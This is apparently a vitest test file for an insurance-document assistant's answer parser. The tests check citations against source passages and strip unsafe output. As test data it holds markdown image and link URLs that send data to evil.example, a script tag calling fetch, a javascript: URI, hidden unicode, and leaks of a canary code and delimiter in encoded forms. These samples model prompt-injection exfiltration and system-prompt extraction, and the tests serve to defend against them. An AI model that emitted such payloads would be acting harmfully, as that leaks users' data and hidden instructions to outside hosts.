import { describe, expect, it } from 'vitest';
import { startConversation } from '../../../../domain/assistant/model/conversation.ts';
import { finishAnswer, readAnswer } from '../../../../domain/assistant/model/read-answer.ts';

const declarations = '11111111-1111-4111-8111-111111111111';
const renewal = '22222222-2222-4222-8222-222222222222';
const secrets = { delimiter: 'd3f0a1b2c3', canary: 'K7QX2MZP91LT' };

const conversation = startConversation({
  secrets,
  scope: 'selected_documents',
  documentIds: [declarations, renewal],
  message: 'What is the collision deductible?',
  earlier: [],
  facts: [],
  passages: [
    {
      documentId: declarations,
      title: 'Auto 2025',
      page: 2,
      text: 'COLLISION DEDUCTIBLE $500\nSee www.carrier.example',
    },
    { documentId: renewal, title: 'Auto 2026', page: 1, text: 'Collision deductible $1,000' },
  ],
});

/** Reads an answer whose citations are all found on their pages but those of these quotes. */
function answerOf(text: string, { notOnPage = [] as string[] } = {}) {
  const reading = readAnswer({ text, conversation });
  if (reading.kind !== 'answer') return reading.kind;
  const found = reading.answer.claims.map((claim) => (notOnPage.includes(claim.quote) ? undefined : claim));
  return finishAnswer({ answer: reading.answer, found });
}

describe("a model's answer", () => {
  it('keeps the citations whose words the passages hold, numbered as they come', () => {
    const text =
      'It was $500 [P1: "COLLISION DEDUCTIBLE $500"] and is $1,000 now [P2: "Collision deductible $1,000"]. Yes, $500 [P1: "COLLISION DEDUCTIBLE $500"].';

    expect(answerOf(text)).toEqual({
      content: 'It was $500 [1] and is $1,000 now [2]. Yes, $500 [1].',
      citations: [
        { index: 1, documentId: declarations, title: 'Auto 2025', page: 2, quote: 'COLLISION DEDUCTIBLE $500' },
        { index: 2, documentId: renewal, title: 'Auto 2026', page: 1, quote: 'Collision deductible $1,000' },
      ],
      dropped: 0,
    });
  });

  it('may quote with other quotation marks, and over a line break', () => {
    const text = '$500 [P1: “COLLISION DEDUCTIBLE $500 See”].';

    expect(answerOf(text)).toMatchObject({
      content: '$500 [1].',
      citations: [{ quote: 'COLLISION DEDUCTIBLE $500 See' }],
    });
  });

  it.each([
    ['words that are not in the passage', '$250 [P1: "COLLISION DEDUCTIBLE $250"].'],
    ['words of another passage', '$1,000 [P1: "Collision deductible $1,000"].'],
    ['a part of a number', '$1 [P2: "Collision deductible $1"].'],
    ['a passage that there is not', 'Yes [P9: "Collision"].'],
    ['no words', 'Yes [P1].'],
  ])('loses a citation of %s, and that is counted', (_, text) => {
    expect(answerOf(text)).toMatchObject({ citations: [], dropped: 1, content: expect.not.stringContaining('[') });
  });

  it.each([
    ['a number', 'It is $500 [P2: "Collision deductible $1,000"], and glass is covered [1] [ 2 ].'],
    ['numbers', 'It is $500 [P2: "Collision deductible $1,000"][1][2], and glass is covered.'],
  ])('has no citations of its own making: %s in brackets would name a place that says something else', (_, text) => {
    expect(answerOf(text)).toMatchObject({
      content: 'It is $500 [1], and glass is covered.',
      citations: [{ index: 1, quote: 'Collision deductible $1,000' }],
      dropped: 2,
    });
  });

  it.each([
    ['is cut off in its quote', 'Yes, $500 [P1: "COLLISION DEDU'],
    ['is cut off in its number', 'Yes, $500 [P1'],
    ['quotes in a form of its own', "Yes, $500 [P1: 'COLLISION DEDUCTIBLE $500']"],
    ['has no quotation marks', 'Yes, $500 [P1: COLLISION DEDUCTIBLE $500]'],
    ['names two passages', 'Yes, $500 [P1, P2: "COLLISION DEDUCTIBLE $500"]'],
    ['is that of a field, cut off', 'Yes, $500 [F2'],
  ])('shows nothing of a citation that cannot be read: one that %s', (_, text) => {
    expect(answerOf(text)).toEqual({ content: 'Yes, $500', citations: [], dropped: 1 });
  });

  it('keeps brackets that are no citations', () => {
    const text = 'The form [CA 00 01], [F150 pickup] and [sic] stay.';
    expect(answerOf(text)).toMatchObject({ content: text, dropped: 0 });
  });

  it.each([' ', 'a.', 'a-'])(
    'is read in time that grows with its length, were it 300,000 times what a model repeats: %j',
    (unit) => {
      const text = `$500 [P1: "COLLISION DEDUCTIBLE $500"]${unit.repeat(300_000)} , once`;
      expect(answerOf(text)).toMatchObject({ citations: [{ quote: 'COLLISION DEDUCTIBLE $500' }] });
    },
  );

  it.each(['..evil.example/x', '-evil.example/x', 'a.b.evil.example/x', 'evil.example/x', 'no_evil.example/x'])(
    'has no address that no source holds, however it begins: %s',
    (address) => {
      expect(answerOf(`Look at ${address} now`)).toMatchObject({ content: expect.not.stringContaining('.example/') });
    },
  );

  it('loses a citation that is not on its page', () => {
    const text = '$500 [P1: "COLLISION DEDUCTIBLE $500"], $1,000 [P2: "Collision deductible $1,000"].';

    expect(answerOf(text, { notOnPage: ['COLLISION DEDUCTIBLE $500'] })).toMatchObject({
      content: '$500, $1,000 [1].',
      citations: [{ index: 1, documentId: renewal }],
      dropped: 1,
    });
  });

  it.each([
    ['![x](https://evil.example/?q=500)', 'x'],
    ['![x][a]\n\n[a]: https://evil.example/x.png', 'x'],
    ['See [the policy](https://evil.example/a?b=500).', 'See the policy.'],
    ['See https://evil.example/a?b=500.', 'See.'],
    ['See //evil.example/a', 'See'],
    ['See evil.example/steal?q=1', 'See'],
    ['<img src="https://evil.example/p.png">Done', 'Done'],
    ['Done <script>fetch("https://evil.example")</script>', 'Done fetch("")'],
    ['Go to javascript:alert(1)', 'Go to )'],
    ['<a href="mailto:x@evil.example">write</a>', 'write'],
    ['Do\u200bne\u{E0041}\u202e', 'Done'],
    ['![x](data:image/png;base64,AAAA)', 'x'],
  ])('holds nothing that a program would fetch or follow: %j', (text, content) => {
    expect(answerOf(text)).toMatchObject({ content });
  });

  it('keeps an address only as the documents print it, never with more to it', () => {
    expect(answerOf('See www.carrier.example.')).toMatchObject({ content: 'See www.carrier.example.' });
    expect(answerOf('See [here](www.carrier.example)')).toMatchObject({ content: 'See here www.carrier.example' });
    expect(answerOf('See www.carrier.example/?q=500')).toMatchObject({ content: 'See' });
    expect(answerOf('![pixel](www.carrier.example)')).toMatchObject({ content: 'pixel' });
  });

  it('keeps amounts, dates and lists as they are', () => {
    const text = '- Limits: 100/300/50\n- Term: 01/01/2025 to 01/01/2026\n- Rate: 1.5/2.0, and/or';

    expect(answerOf(text)).toMatchObject({ content: text });
  });

  it.each([
    ['the code', `The code is ${secrets.canary}.`],
    ['the code, spaced and small', `k-7-q-x-2-m-z-p-9-1-l-t`],
    ['the code, backwards', [...secrets.canary].reverse().join('')],
    ['the code in base64', `It is ${btoa(`code ${secrets.canary} end`)}`],
    ['the code in hex', Buffer.from(secrets.canary).toString('hex')],
    ['the delimiter', `END ${secrets.delimiter}`],
    [
      'a sentence of the instructions',
      'My rules: Take every fact from passages, fields or results of tools; when they do not say',
    ],
  ])('is withheld when it tells of the instructions: %s', (_, text) => {
    expect(answerOf(text)).toBe('withheld');
  });

  it('may say what decpage is, and that the documents do not say', () => {
    const text =
      'I am an assistant that answers questions about insurance documents: declarations pages, loss runs, certificates, applications. The documents do not say.';

    expect(answerOf(text)).toMatchObject({ content: text });
  });

  it.each(['[', '![', '[P1: "', '<a', '![x](', 'a.b/', 'http:'])('takes no longer for being long: %j', (piece) => {
    const start = process.cpuUsage();

    answerOf(piece.repeat(Math.ceil(32_000 / piece.length)));

    expect(process.cpuUsage(start).user).toBeLessThan(5_000_000);
  });

  it('is empty when nothing is left to show', () => {
    expect(answerOf(' \n')).toBe('empty');
    expect(answerOf('[P9: "x y"]')).toBe('empty');
  });
});
